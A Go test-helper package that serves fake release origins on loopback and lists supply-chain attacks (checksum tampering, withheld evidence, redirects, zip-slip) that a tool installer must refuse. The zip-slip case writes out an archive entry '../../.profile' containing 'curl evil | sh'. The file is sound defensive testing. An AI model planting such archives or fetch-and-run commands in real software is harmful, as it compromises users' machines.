// Package upstream serves, on loopback for tests, the origins the
// catalogue's tools come from, under one mirror root in the files_repo
// layout (ROOT/HOST/PATH): a github.com-shaped host (latest-release
// redirects, release assets), get.helm.sh (markers, archives, .sha256sum),
// kubevirt's stable.txt; and beside it a GitHub API serving releases with
// asset digests. Publish builds a tool's real file for a platform (a
// tar.gz or zip with the program at the catalogue's member path, or the
// bare binary) with the evidence its project publishes; tests then break
// one piece at a time.
package upstream

import (
	"archive/tar"
	"archive/zip"
	"bytes"
	"compress/gzip"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"net/url"
	"path"
	"slices"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/kubeboot/kubeboot/bootstrap/catalog"
	"github.com/kubeboot/kubeboot/internal/pgptest"
)

// Origin is a running mirror root and GitHub API.
type Origin struct {
	Files, API *httptest.Server
	// Signer, when set, signs every file Publish puts up whose tool has
	// PGP evidence (its .asc); unset, no .asc is served.
	Signer *pgptest.Key

	mu        sync.Mutex
	files     map[string][]byte     // "HOST/PATH" → body
	redirects map[string]string     // "HOST/PATH" → Location as served
	releases  map[string][]apiAsset // "owner/repo@tag" → assets
	requests  []string
	holds     map[string]hold // "HOST/PATH" → a download that stalls
}

// hold is a download that sends its first bytes and then stalls.
type hold struct {
	after   int
	started chan struct{}
}

type apiAsset struct {
	Name   string  `json:"name"`
	Digest *string `json:"digest,omitempty"`
}

// Start runs an Origin until the test ends.
func Start(t testing.TB) *Origin {
	o := &Origin{files: map[string][]byte{}, redirects: map[string]string{}, releases: map[string][]apiAsset{}, holds: map[string]hold{}}
	o.Files = httptest.NewServer(http.HandlerFunc(o.serveFiles))
	o.API = httptest.NewServer(http.HandlerFunc(o.serveAPI))
	t.Cleanup(o.Files.Close)
	t.Cleanup(o.API.Close)
	return o
}

// Root is the mirror root (KUBEBOOT_MIRROR_ROOT).
func (o *Origin) Root() string { return o.Files.URL }

// APIURL is the GitHub API root (KUBEBOOT_GITHUB_API_URL).
func (o *Origin) APIURL() string { return o.API.URL + "/" }

// key is where the mirror serves upstream's URL.
func key(upstream string) string {
	u, err := url.Parse(upstream)
	if err != nil {
		panic(err)
	}
	return u.Host + u.Path
}

// Put serves body as upstream's URL.
func (o *Origin) Put(upstream string, body []byte) {
	o.mu.Lock()
	defer o.mu.Unlock()
	o.files[key(upstream)] = body
}

// Get returns what is served as upstream's URL.
func (o *Origin) Get(upstream string) []byte {
	o.mu.Lock()
	defer o.mu.Unlock()
	return o.files[key(upstream)]
}

// Remove stops serving upstream's URL.
func (o *Origin) Remove(upstream string) {
	o.mu.Lock()
	defer o.mu.Unlock()
	delete(o.files, key(upstream))
}

// Redirect makes upstream's URL redirect: to the mirror's copy of
// location when that is an https URL, else to location as given (another
// host, say).
func (o *Origin) Redirect(upstream, location string) {
	o.mu.Lock()
	defer o.mu.Unlock()
	if strings.HasPrefix(location, "https://") {
		location = catalog.Mirrored(o.Files.URL, location)
	}
	o.redirects[key(upstream)] = location
}

// SetAssetDigest sets (or, with "", removes) the digest the API reports
// for an asset of repo's release tag.
func (o *Origin) SetAssetDigest(repo, tag, name, digest string) {
	o.mu.Lock()
	defer o.mu.Unlock()
	for i, a := range o.releases[repo+"@"+tag] {
		if a.Name == name {
			if digest == "" {
				o.releases[repo+"@"+tag][i].Digest = nil
			} else {
				o.releases[repo+"@"+tag][i].Digest = &digest
			}
		}
	}
}

// Hold makes upstream's URL send its first after bytes and then stall
// until the client gives up, closing started (once) when it does; a nil
// started serves it whole again.
func (o *Origin) Hold(upstream string, after int, started chan struct{}) {
	o.mu.Lock()
	defer o.mu.Unlock()
	if started == nil {
		delete(o.holds, key(upstream))
		return
	}
	o.holds[key(upstream)] = hold{after, started}
}

// Requests lists the paths asked of either server, in order.
func (o *Origin) Requests() []string {
	o.mu.Lock()
	defer o.mu.Unlock()
	return slices.Clone(o.requests)
}

func (o *Origin) serveFiles(w http.ResponseWriter, r *http.Request) {
	o.mu.Lock()
	o.requests = append(o.requests, r.URL.Path)
	k := strings.TrimPrefix(r.URL.Path, "/")
	body, ok := o.files[k]
	loc, redirect := o.redirects[k]
	h, held := o.holds[k]
	delete(o.holds, k) // once: closing started twice would panic
	o.mu.Unlock()
	switch {
	case held && ok:
		w.Header().Set("Content-Length", strconv.Itoa(len(body)))
		w.Write(body[:min(h.after, len(body))])
		w.(http.Flusher).Flush()
		close(h.started)
		<-r.Context().Done()
	case redirect:
		w.Header().Set("Location", loc)
		w.WriteHeader(http.StatusFound)
	case ok:
		http.ServeContent(w, r, "", time.Time{}, bytes.NewReader(body))
	default:
		http.NotFound(w, r)
	}
}

func (o *Origin) serveAPI(w http.ResponseWriter, r *http.Request) {
	o.mu.Lock()
	defer o.mu.Unlock()
	o.requests = append(o.requests, "api:"+r.URL.Path)
	rest, ok := strings.CutPrefix(r.URL.Path, "/repos/")
	repoTag := strings.SplitN(rest, "/releases/tags/", 2)
	if !ok || len(repoTag) != 2 || o.releases[repoTag[0]+"@"+repoTag[1]] == nil {
		w.Header().Set("Content-Type", "application/json")
		w.WriteHeader(http.StatusNotFound)
		w.Write([]byte(`{"message":"Not Found"}`))
		return
	}
	w.Header().Set("Content-Type", "application/json; charset=utf-8")
	json.NewEncoder(w).Encode(map[string]any{"tag_name": repoTag[1], "assets": o.releases[repoTag[0]+"@"+repoTag[1]]})
}

// Member is one file of an archive.
type Member struct {
	Name string
	Body []byte
}

// Published is what Publish put up.
type Published struct {
	Artifact catalog.Artifact
	File     []byte // the file as served
	Program  []byte
}

// Publish serves tool's release tag for p, holding program: the file (an
// archive with the program at its member path, plus extra members, or the
// bare program), its evidence as the project publishes it, and the
// version sources (marker, latest-release redirect) naming tag when
// latest. members, when not nil, replaces the archive's members entirely.
func (o *Origin) Publish(t testing.TB, tool *catalog.Tool, tag string, p catalog.Platform, program []byte, latest bool, members []Member) Published {
	t.Helper()
	art, ok := tool.Artifact(tag, p)
	if !ok {
		t.Fatalf("%s has no file for %s", tool.Name, p)
	}
	if members == nil {
		members = []Member{{"LICENSE", []byte("license\n")}, {art.Member, program}}
	}
	file := program
	switch art.Archive {
	case catalog.TarGz:
		file = tarGz(t, members)
	case catalog.Zip:
		file = zipped(t, members)
	}
	o.Put(art.URL, file)
	sum := sha256.Sum256(file)
	digest := hex.EncodeToString(sum[:])
	for _, pr := range art.Proofs {
		switch pr.Kind {
		case catalog.SHA256File:
			o.Put(pr.At, []byte(digest+"  "+art.Name+"\n"))
		case catalog.ChecksumList:
			list := string(o.Get(pr.At))
			list += strings.Repeat("0", 64) + "  " + "other-file\n" + digest + "  " + art.Name + "\n"
			o.Put(pr.At, []byte(list))
		case catalog.PGP:
			if o.Signer != nil {
				o.Put(pr.At, o.Signer.Sign(t, file))
			}
		case catalog.GitHubAssetDigest:
			o.mu.Lock()
			d := "sha256:" + digest
			o.releases[pr.Repo+"@"+tag] = append(o.releases[pr.Repo+"@"+tag], apiAsset{Name: art.Name, Digest: &d})
			o.mu.Unlock()
		}
	}
	if latest {
		switch tool.Versions.Kind {
		case catalog.VersionMarker:
			o.Put(tool.Versions.URL, []byte(tag+"\n"))
		case catalog.VersionReleaseRedirect:
			o.Redirect(tool.Versions.URL, strings.TrimSuffix(tool.Versions.URL, "latest")+"tag/"+tag)
		}
	}
	return Published{Artifact: art, File: file, Program: program}
}

func tarGz(t testing.TB, members []Member) []byte {
	var buf bytes.Buffer
	gz := gzip.NewWriter(&buf)
	tw := tar.NewWriter(gz)
	for _, m := range members {
		if err := tw.WriteHeader(&tar.Header{Name: m.Name, Mode: 0o755, Size: int64(len(m.Body)), Typeflag: tar.TypeReg}); err != nil {
			t.Fatal(err)
		}
		tw.Write(m.Body)
	}
	if err := tw.Close(); err != nil {
		t.Fatal(err)
	}
	gz.Close()
	return buf.Bytes()
}

func zipped(t testing.TB, members []Member) []byte {
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	for _, m := range members {
		h := &zip.FileHeader{Name: m.Name, Method: zip.Deflate}
		h.SetMode(0o755)
		w, err := zw.CreateHeader(h)
		if err != nil {
			t.Fatal(err)
		}
		w.Write(m.Body)
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// Attack is one way a release, its evidence or its version source can lie.
type Attack struct {
	Name string
	// Members, when set, builds the archive's members instead of the
	// honest ones (archive tools only); the evidence then vouches for
	// that archive, as a compromised release's would.
	Members func(a catalog.Artifact, program []byte) []Member
	// Apply breaks what Publish put up.
	Apply func(o *Origin, tool *catalog.Tool, pub Published)
}

// AppliesTo reports whether the attack can be made on tool's file a.
func (at Attack) AppliesTo(tool *catalog.Tool, a catalog.Artifact) bool {
	switch at.Name {
	case "API digest mismatch":
		return a.Proofs[0].Kind == catalog.GitHubAssetDigest
	case "version redirect to another host":
		return tool.Versions.Kind == catalog.VersionReleaseRedirect
	}
	return at.Members == nil || a.Archive != catalog.Raw
}

// Attacks lists every attack the tools' installs must refuse.
func Attacks() []Attack {
	return []Attack{
		{Name: "checksum mismatch", Apply: func(o *Origin, tool *catalog.Tool, pub Published) {
			swapped := slices.Clone(pub.File)
			swapped[len(swapped)-1] ^= 1
			o.Put(pub.Artifact.URL, swapped)
		}},
		{Name: "evidence withheld", Apply: func(o *Origin, tool *catalog.Tool, pub Published) {
			for _, pr := range pub.Artifact.Proofs {
				if pr.Kind == catalog.GitHubAssetDigest {
					o.SetAssetDigest(pr.Repo, pub.Artifact.Version, pr.Asset, "")
				} else {
					o.Remove(pr.At)
				}
			}
		}},
		{Name: "API digest mismatch", Apply: func(o *Origin, tool *catalog.Tool, pub Published) {
			other := sha256.Sum256([]byte("another file"))
			for _, pr := range pub.Artifact.Proofs {
				o.SetAssetDigest(pr.Repo, pub.Artifact.Version, pr.Asset, "sha256:"+hex.EncodeToString(other[:]))
			}
		}},
		{Name: "malformed digest", Apply: func(o *Origin, tool *catalog.Tool, pub Published) {
			for _, pr := range pub.Artifact.Proofs {
				if pr.Kind == catalog.GitHubAssetDigest {
					o.SetAssetDigest(pr.Repo, pub.Artifact.Version, pr.Asset, "md5:abc")
				} else {
					o.Put(pr.At, []byte("<html>not found</html>"))
				}
			}
		}},
		{Name: "zip-slip member", Members: func(a catalog.Artifact, program []byte) []Member {
			return []Member{{a.Member, program}, {"../../.profile", []byte("curl evil | sh")}}
		}},
		{Name: "two programs of that name", Members: func(a catalog.Artifact, program []byte) []Member {
			return []Member{{a.Member, program}, {a.Member, []byte("evil")}}
		}},
		{Name: "program elsewhere in the archive", Members: func(a catalog.Artifact, program []byte) []Member {
			return []Member{{"other/" + path.Base(a.Member), program}}
		}},
		{Name: "version redirect to another host", Apply: func(o *Origin, tool *catalog.Tool, pub Published) {
			// A loopback host that is not the mirror: plain http to it
			// passes the URL policy, so only the redirect check stops it.
			evil := httptest.NewServer(http.NotFoundHandler())
			evil.Close()
			o.Redirect(tool.Versions.URL, catalog.Mirrored(evil.URL, strings.TrimSuffix(tool.Versions.URL, "latest")+"tag/"+pub.Artifact.Version))
		}},
	}
}

// PublishAttacked publishes tool's release tag for p as latest, with at
// made on it.
func (o *Origin) PublishAttacked(t testing.TB, tool *catalog.Tool, tag string, p catalog.Platform, program []byte, at Attack) Published {
	t.Helper()
	var members []Member
	if at.Members != nil {
		a, _ := tool.Artifact(tag, p)
		members = at.Members(a, program)
	}
	pub := o.Publish(t, tool, tag, p, program, true, members)
	if at.Apply != nil {
		at.Apply(o, tool, pub)
	}
	return pub
}
